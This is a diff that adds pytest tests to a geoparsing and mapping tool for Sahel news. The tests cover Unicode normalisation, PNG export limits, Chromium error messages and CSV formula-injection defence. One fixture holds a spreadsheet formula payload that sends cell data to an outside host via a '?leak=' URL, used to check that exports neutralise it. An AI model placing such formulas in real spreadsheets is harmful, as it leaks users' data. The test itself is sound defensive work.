@@ -166,3 +166,88 @@ def test_export_fails_when_no_article_can_be_read(tmp_path: Path) -> None:
 def test_export_date_range_is_the_dashboards(tmp_path: Path) -> None:
     result = run_geo("export", "--format", "csv", "--out", str(tmp_path / "m.csv"), "--as-of", "1990-01-01")
     assert result.returncode == 2 and "outside the dates the map covers (2012-01-01" in result.stderr
+
+
+# ---------------------------------------------------------------- Unicode normalisation
+
+
+def test_decomposed_accents_find_the_same_places_with_offsets_into_the_text_as_given(tmp_path: Path) -> None:
+    from geo.geoparse.parser import parse
+
+    import unicodedata
+
+    composed = "Les soldats ont quitté Tillabéri pour Ménaka et Ségou."
+    decomposed = unicodedata.normalize("NFD", composed)
+    assert decomposed != composed
+    expected = [(m.surface, m.entry.entry_id if m.entry else None) for m in parse(composed)]
+    found = parse(decomposed)
+    assert [(unicodedata.normalize("NFC", m.surface), m.entry.entry_id if m.entry else None)
+            for m in found] == expected
+    assert all(decomposed[m.start:m.end] == m.surface for m in found)
+    assert all(decomposed[m.sentence_start:m.sentence_start + len(m.sentence)] == m.sentence for m in found)
+    path = tmp_path / "nfd.jsonl"
+    path.write_text(json.dumps({"id": "nfd", "text": decomposed}, ensure_ascii=False) + "\n", encoding="utf-8")
+    result = run_geo("mentions", "--input-jsonl", str(path), "--format", "jsonl")
+    surfaces = [json.loads(line)["surface"] for line in result.stdout.splitlines()]
+    assert len(surfaces) == len(expected) >= 3 and all(s in decomposed for s in surfaces)
+
+
+# ---------------------------------------------------------------- pictures
+
+
+@pytest.mark.parametrize("extra", [["--scale", "nan"], ["--scale", "inf"], ["--scale", "-1"], ["--scale", "50"],
+                                   ["--width", "0"], ["--height", "100000"], ["--width", "9000", "--scale", "8"]])
+def test_picture_sizes_chromium_cannot_draw_are_refused(extra: list[str], tmp_path: Path) -> None:
+    out = tmp_path / "map.png"
+    assert_clean_failure(run_geo("export", "--format", "png", "--out", str(out), "--as-of", "2024-01-01", *extra),
+                         "error:")
+    assert not out.exists()
+
+
+def test_a_broken_chromium_is_named_in_the_message(tmp_path: Path) -> None:
+    fake = tmp_path / "chromium"
+    fake.write_text("#!/bin/sh\necho 'not a browser' >&2\nexit 1\n")
+    fake.chmod(0o755)
+    out = tmp_path / "map.png"
+    result = subprocess.run([sys.executable, "-m", "geo", "export", "--format", "png", "--out", str(out),
+                             "--as-of", "2024-01-01", "--articles", str(REPO_ROOT / "data" / "articles")],
+                            cwd=REPO_ROOT, capture_output=True, text=True, timeout=300,
+                            env={**os.environ, "SAHEL_CHROMIUM": str(fake)})
+    assert_clean_failure(result, "could not start Chromium at " + str(fake), "apt-get install -y chromium")
+    assert not out.exists() and not list(tmp_path.glob(".map.png*"))
+
+
+# ---------------------------------------------------------------- spreadsheets
+
+
+FORMULA_TITLE = '=HYPERLINK("http://example.org/?leak="&A1,"Click")'
+
+
+def _csv_cells(path: Path) -> list[str]:
+    import csv
+
+    with path.open(encoding="utf-8", newline="") as handle:
+        return [cell for row in csv.reader(handle) for cell in row]
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_csv_exports_never_hold_a_formula(tmp_path: Path) -> None:
+    article = tmp_path / "a.md"
+    article.write_text(f"---\ntitle: {json.dumps(FORMULA_TITLE)}\n---\n\n=SUM(1+1) Troops left Gao.\n\n"
+                       "@cmd Convoys reached Niamey.\n", encoding="utf-8")
+    mentions_csv, export_csv = tmp_path / "mentions.csv", tmp_path / "export.csv"
+    assert run_geo("mentions", str(article), "--format", "csv", "--out", str(mentions_csv)).returncode == 0
+    assert run_geo("export", "--format", "csv", "--out", str(export_csv), "--articles", str(article),
+                   "--as-of", "2024-01-01").returncode == 0
+    for path in (mentions_csv, export_csv):
+        cells = _csv_cells(path)
+        assert "'" + FORMULA_TITLE in cells, path  # kept, shown as text
+        risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(c)]
+        assert risky == [], (path, risky)
